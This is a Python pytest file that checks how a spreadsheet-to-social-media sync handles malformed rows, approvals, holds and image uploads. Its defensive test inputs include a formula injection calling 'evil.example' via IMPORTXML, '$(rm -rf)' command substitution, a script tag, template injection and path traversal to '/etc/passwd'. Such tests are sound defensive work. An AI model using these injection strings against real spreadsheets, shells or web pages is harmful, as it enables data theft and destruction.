"""Rows as owners really leave them, over the mesh in memory: each says what is wrong with it, and the others go on."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import timedelta
from itertools import pairwise
from typing import Any
from unittest.mock import patch

import pytest
from owner_world.hands import HEADER, Hands
from owner_world.mesh import START, Mesh, new_sheet

import drive_sync.handler
from drive_sync.folder import IMAGE_LIMIT_BYTES
from mesh.cells import Cell
from mesh.errors import Unreachable
from mesh.ledger import Act
from mesh.ledger.runtime import HOLD_EVERYTHING, pause_key

GOOD: Mapping[str, Cell] = {"date": "2027-03-25", "time": "09:00", "text": "Plum cake", "channels": "bluesky-main"}
DOC = "application/vnd.google-apps.document"


@pytest.fixture(autouse=True)
def no_log() -> Iterator[None]:
    with patch.object(drive_sync.handler.log, "line", lambda *_, **__: None):
        yield


class Table:
    """The sheet, its owner and the mesh around it."""

    def __init__(self) -> None:
        self.sheet = new_sheet(HEADER)
        self.hands = Hands(self.sheet)
        self.mesh = Mesh(self.sheet)

    def add(self, **cells: Cell) -> str:
        """Its tag."""
        named = {name.replace("_", " "): value for name, value in cells.items()}
        self.hands.insert(len(self.hands.lines()), {**GOOD, **named})
        return f"t{self.hands.count}"

    def settle(self) -> None:
        for _ in range(4):
            self.mesh.minutes(2)
            self.mesh.sync()
            self.mesh.follow()
        self.mesh.sync()

    def says(self, tag: str) -> str:
        line = self.hands.line(tag)
        assert line is not None
        return str(line["status"])

    def id_of(self, tag: str) -> str:
        line = self.hands.line(tag)
        assert line is not None
        return str(line["post_id"])


@pytest.fixture
def table() -> Table:
    return Table()


WAITING = "Ready. The mail asking"


@pytest.mark.parametrize(
    ("cells", "said"),
    [
        ({"date": "soon"}, "date: “soon” is no date; write it like 2026-12-25"),
        ({"date": "03/04/2027"}, "“03/04/2027” can be 3 April or 4 March; write it like 2027-04-03"),
        ({"date": "31.04.2027"}, "date: “31.04.2027” is no date"),
        ({"date": 1e300}, "is no date"),
        ({"date": True}, "date: “TRUE” is no date"),
        ({"time": "25:00"}, "time: “25:00” is no time; write it like 09:00"),
        ({"time": 25 / 24}, "time: “25:00” is no time"),
        ({"time": 9}, "time: “9” is no time"),
        ({"date": "", "time": ""}, "date: write the day"),
        ({"text": ""}, "text: there is nothing to post"),
        ({"channels": "instergram"}, "“instergram” is not in your rules doc (there: bluesky-main, mastodon-main)"),
        ({"image": "../../x"}, "there is no file “../../x” in the folder"),
        ({"image": "/etc/passwd"}, "there is no file “/etc/passwd”"),
        ({"image": "plan.gdoc"}, "“plan.gdoc” is a Google Doc, no picture"),
        ({"image": "menu.pdf"}, "“menu.pdf” is no picture (application/pdf)"),
        ({"image": "huge.jpg"}, "“huge.jpg” has 200 MB; 40 MB is the most"),
        ({"image": ", ".join(f"{n}.jpg" for n in range(60))}, "60 names are more than any network takes; keep 20"),
        ({"image": "x" * 5_000 + ".jpg"}, "there is no file “xxx"),
        ({"date": "date", "time": "time", "text": "text"}, "this row repeats the header; delete it"),
        ({"date": "2020-01-01"}, "2020-01-01 09:00 has passed"),
    ],
)  # fmt: skip
def test_a_row_that_cannot_go_says_why_and_the_others_go_on(table: Table, cells: dict[str, Cell], said: str) -> None:
    put = table.sheet._files
    for name, mime, size in (
        ("plan.gdoc", DOC, 0),
        ("menu.pdf", "application/pdf", 9),
        ("huge.jpg", "image/jpeg", 200_000_000),
    ):
        table.sheet.put_image(name, name.encode())
        put[f"image-{name}"] = type(put[f"image-{name}"])(
            f"image-{name}",
            name,
            mime,
            1,
            "" if mime == DOC else "a" * 32,
            size,
            parents=("folder-1",),
            modified_at="1",
        )
    bad, good = table.add(**cells), table.add()

    table.settle()

    assert table.says(bad).startswith("Please mend: ")
    assert said in table.says(bad)
    assert table.says(good).startswith(WAITING)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", '=IMPORTXML("https://evil.example", "//a")', "+49 30 1234", "-5 degrees", "@SUM(1)", "<script>alert(1)</script>",
        "a\x00b", "half \ud83d emoji", "x" * 50_000, "\u202eright to left", "=HYPERLINK(1", "'quoted", "tab\there", "{{7*7}}", "$(rm -rf)",
    ],
)  # fmt: skip
def test_a_hostile_text_is_text_and_nothing_else_stops(table: Table, text: str) -> None:
    odd, good = table.add(text=text, note=text[:99], link=""), table.add()

    table.settle()

    assert table.says(good).startswith(WAITING)
    assert table.says(odd)
    row = table.hands.line(odd)
    assert row is not None
    assert (row["text"], row["note"]) == (text, text[:99])
    for post_id, mirrored in table.mesh.mirrored().items():
        assert mirrored.text.encode()
        assert table.mesh.ledger.status(post_id) is not None


@pytest.mark.parametrize("junk", ["../../x", "a#b", "=1+1", "x" * 70, "p 1", "<b>", 12.5])
def test_what_can_be_no_id_of_ours_is_replaced(table: Table, junk: Cell) -> None:
    tag = table.add(post_id=junk)
    line = table.hands.line(tag)
    assert line is not None
    table.sheet.rewrite([HEADER, [junk if name == "post_id" else line[name] for name in HEADER]])
    table.settle()
    assert table.id_of(tag).startswith("p_")
    assert set(table.mesh.mirrored()) == {table.id_of(tag)}


def test_a_row_that_its_owner_emptied_is_another_post_when_it_is_written_again(table: Table) -> None:
    tag = table.add()
    table.settle()
    first = table.id_of(tag)
    table.hands.empty(tag)
    table.settle()
    for name, value in {**GOOD, "text": "Something else"}.items():
        table.hands.edit(tag, name, value)
    table.settle()
    assert table.id_of(tag) not in {first, ""}
    assert table.says(tag).startswith(WAITING)


# what stands over the rows


def approved(table: Table) -> tuple[str, str]:
    tag = table.add()
    table.settle()
    assert table.mesh.approve(table.id_of(tag))
    table.settle()
    return tag, table.id_of(tag)


def test_a_hold_on_everything_and_its_end_show_in_the_approved_rows(table: Table) -> None:
    tag, _ = approved(table)
    waiting = table.add(text="Not approved")
    table.settle()
    act = Act("hold", "ada@example.test", table.mesh.now, "t")
    values = {"by": "ada@example.test", "how": "mail", "at": table.mesh.now.isoformat()}
    table.mesh.ledger.set_standing("everything", HOLD_EVERYTHING, values, act)

    table.mesh.sync()

    assert table.says(tag).startswith("Held with everything else by ada@example.test since Mon 15 Mar")
    assert table.says(waiting).startswith(WAITING)
    table.mesh.ledger.set_standing("everything", HOLD_EVERYTHING, None, act)
    table.mesh.sync()
    assert table.says(tag).startswith("Approved by")


def test_a_paused_channel_shows_in_the_rows_that_wait_for_it(table: Table) -> None:
    tag, _ = approved(table)
    act = Act("pause", "sender", table.mesh.now, "t")
    values = {"detail": "the sign-in has ended.", "since": table.mesh.now.isoformat()}
    table.mesh.ledger.set_standing("channel#bluesky-main", pause_key("bluesky-main"), values, act)
    table.mesh.sync()
    assert table.says(tag).startswith("bluesky-main is paused: the sign-in has ended. The post waits.")
    table.mesh.ledger.set_standing("channel#bluesky-main", pause_key("bluesky-main"), None, act)
    table.mesh.sync()
    assert table.says(tag).startswith("Approved by")


def test_an_approved_row_whose_tick_and_stamp_a_stray_write_took_is_ticked_again(table: Table) -> None:
    tag, post_id = approved(table)
    table.hands.edit(tag, "approved", False)
    table.hands.edit(tag, "approved for", None)

    table.mesh.minutes(5)
    table.mesh.sync()

    line = table.hands.line(tag)
    assert line is not None
    assert (line["approved"], str(line["approved for"]).partition(":")[0]) == (True, post_id)


def test_a_time_that_passes_without_an_approval_shows_at_the_next_run_and_only_then_is_anything_read(
    table: Table,
) -> None:
    tag = table.add(date="2027-03-15", time="10:00")
    table.settle()
    assert table.says(tag).startswith(WAITING)
    table.mesh.now = START + timedelta(hours=2)
    table.mesh.sync()
    assert table.says(tag).startswith("Not sent: nobody approved it in time")


def test_a_sentence_that_a_stray_write_left_in_a_finished_row_is_mended_by_the_daily_look(table: Table) -> None:
    tag = table.add(date="2027-06-15")
    table.settle()
    assert table.says(tag).startswith("Planned.")
    assert table.mesh.ledger.open_statuses() == []
    table.hands.edit(tag, "status", "Posted: something else")
    table.settle()
    assert table.says(tag) == "Posted: something else"
    table.mesh.minutes(25 * 60)
    table.settle()
    assert table.says(tag).startswith("Planned.")


# rows that are put in


def test_a_wanted_row_comes_in_once_unapproved_and_never_again_when_its_owner_deletes_it(table: Table) -> None:
    table.add()
    table.settle()
    table.mesh.want("p_friday", "Every Friday: cake")
    table.settle()
    rows = [line for line in table.hands.lines() if line["post_id"] == "p_friday"]
    assert [(row["text"], row["approved"]) for row in rows] == [("Every Friday: cake", None)] or rows[0][
        "approved"
    ] is False
    assert table.mesh.mirrored()["p_friday"].time == "09:00"
    table.sheet.rewrite([row for row in table.sheet.rows if "p_friday" not in row])
    table.mesh.minutes(10)
    table.settle()
    assert "p_friday" not in table.mesh.mirrored()
    assert not any(line["post_id"] == "p_friday" for line in table.hands.lines())


def test_an_insertion_without_an_answer_is_given_time_to_land_and_the_row_stands_there_once(table: Table) -> None:
    table.add()
    table.settle()
    table.mesh.want("p_friday", "Every Friday: cake")
    on_its_way: list[tuple[Any, ...]] = []

    def lost(*given: Any) -> None:
        on_its_way.append(given)
        raise Unreachable("the sheet")

    with patch.object(table.sheet, "insert", lost):
        table.mesh.sync()
        table.mesh.minutes(1)
        table.mesh.sync()
    assert len(on_its_way) == 1
    table.sheet.insert(*on_its_way[0])
    table.mesh.minutes(5)
    table.settle()
    assert [line["post_id"] for line in table.hands.lines()].count("p_friday") == 1


def test_a_lost_insertion_is_made_again_after_three_minutes(table: Table) -> None:
    table.mesh.want("p_friday", "Every Friday: cake")
    with patch.object(table.sheet, "insert", side_effect=Unreachable("the sheet")):
        table.mesh.sync()
    table.mesh.minutes(4)
    table.mesh.sync()
    assert [line["post_id"] for line in table.hands.lines()] == ["p_friday"]


def test_a_wanted_row_is_not_taken_for_deleted_before_it_is_there(table: Table) -> None:
    table.mesh.want("p_friday", "Every Friday: cake")
    table.mesh.follow()
    status = table.mesh.ledger.status("p_friday")
    assert status is not None
    assert status.gone_at is None


# images


def test_many_new_images_take_several_runs_the_soonest_first_and_a_killed_run_has_not_worked_in_vain(
    table: Table,
) -> None:
    count = 60
    for number in range(count):
        table.sheet.put_image(f"{number}.png", f"bytes {number}".encode())
        table.add(text=f"post {number}", date=f"2027-04-{1 + number % 28:02d}", image=f"{number}.png")
    left = iter(())

    def remaining() -> float:
        return next(left, 0.0)

    done: list[int] = []
    for run in range(40):
        budget = [60.0] * 12
        left = iter(budget)
        killed = run % 3 == 2
        try:
            with patch.object(type(table.mesh.parts.store), "put_rows", _dies) if killed else _nothing():
                drive_sync.handler.sync(table.mesh.parts, "t", f"run-{run}", remaining)
        except KeyboardInterrupt:
            table.mesh.runtime.forget(drive_sync.handler.LEASE_KEY)
        table.mesh.minutes(5)
        done.append(len(table.mesh.parts.store.images()))
        if len(table.mesh.mirrored()) == count:
            break
    assert len(table.mesh.mirrored()) == count
    assert done == sorted(done)
    assert all(later > earlier for earlier, later in pairwise(done) if earlier < count)


def test_the_bucket_is_asked_once_for_all_the_new_images_of_a_run_and_not_at_all_without_one(table: Table) -> None:
    for number in range(5):
        table.sheet.put_image(f"{number}.png", f"bytes {number}".encode())
        table.add(text=f"post {number}", image=f"{number}.png")
    store = type(table.mesh.parts.store)
    with patch.object(store, "images", autospec=True, side_effect=store.images) as asked:
        table.mesh.sync()
        assert asked.call_count == 1
        table.hands.edit("t1", "text", "another word")
        table.mesh.sync()
        assert asked.call_count == 1


def test_the_largest_image_taken_is_what_the_page_about_rows_says() -> None:
    assert IMAGE_LIMIT_BYTES == 40_000_000


def _dies(*_: object) -> bool:
    raise KeyboardInterrupt


def _nothing() -> patch.dict:  # type: ignore[type-arg]
    return patch.dict({})
